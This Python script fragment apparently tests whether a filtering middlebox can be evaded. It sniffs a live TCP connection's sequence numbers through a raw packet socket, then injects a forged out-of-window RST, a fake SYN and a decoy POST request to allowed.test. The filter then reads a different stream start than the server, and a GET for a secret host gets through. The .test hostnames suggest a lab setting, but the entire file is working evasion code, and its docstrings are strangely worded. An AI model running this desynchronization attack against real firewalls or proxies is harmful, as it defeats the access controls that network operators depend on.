"""beside WAY FAMILY: by hand, tells the guard of another beginning of a stream."""

way, family = sys.argv[1], int(sys.argv[2])
FIN, SYN, RST, PUSH, ACK = 1, 2, 4, 8, 16
BODY = b"GET / HTTP/1.1\r\nHost: %s.test\r\nConnection: close\r\n\r\n" % SECRET
# What the guard reads in front of what the server reads.
BEFORE = (
    b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: %d\r\n\r\n" % len(BODY)
)


def numbers(heard, port):
    """Those of the next packet that this machine sends from a port."""
    while True:
        packet = heard.recv(2000)
        head = packet[40:] if packet[0] >> 4 == 6 else packet[(packet[0] & 15) * 4 :]
        if packet[0] >> 4 in (4, 6) and len(head) >= 20:
            source, _, number, acknowledged = struct.unpack("!HHII", head[:12])
            if source == port and not head[13] & SYN:
                return number, acknowledged


link = Link()
heard = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
heard.bind(("eth0", 0))
heard.settimeout(2)
socket.getaddrinfo("allowed.test", 80, FAMILY[family], socket.SOCK_STREAM)
asking = socket.socket(FAMILY[family], socket.SOCK_STREAM)
asking.settimeout(2)
asking.connect((ALLOWED[family], 80))
port = asking.getsockname()[1]
number, acknowledged = numbers(heard, port)
first = number - len(BEFORE)


def send(flags, number, data=b""):
    ends = BOX[family], port, ALLOWED[family], 80
    ack = acknowledged if flags & ACK else 0
    link.send(tcp(*ends, flags, number % 2**32, ack, data))
    time.sleep(0.05)


if way == "reset":
    # Too far away for the server.
    send(RST, number + 2**30)
if way in ("reset", "open"):
    send(SYN, first - 1)
    send(ACK | PUSH, first, BEFORE)
attempt(asking.sendall, BODY)
print(attempt(asking.recv, 4096))
